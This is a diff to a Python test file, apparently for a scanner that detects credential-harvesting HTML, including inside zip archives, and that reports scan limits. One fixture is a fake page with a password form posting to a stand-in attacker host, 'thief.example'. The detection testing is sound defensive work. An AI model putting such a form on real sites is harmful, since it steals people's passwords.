@@ -63,9 +63,8 @@ def test_tables_that_reach_out_hide_no_command():
 def test_pages_in_front_hide_none_behind_them():
     pages = [(f"{number}.html", b"<html><body><p>Minutes of Thursday</p></body></html>") for number in range(60)]
     form = ("last.html", b"<html><form action='https://thief.example/'><input type=password name=p></form></html>")
-    assert "html.credential-form" in found([*pages[:40], form])
-    assert "html.limit" not in found([*pages[:40], form])
-    assert "html.limit" in found([*pages, form]), "what is not looked at is not delivered"
+    assert "html.credential-form" in found([*pages, form])
+    assert "structure.limit" not in found([*pages, form])
     assert "html.credential-form" in found([("pages.zip", packed([*pages, form]))])
 
 
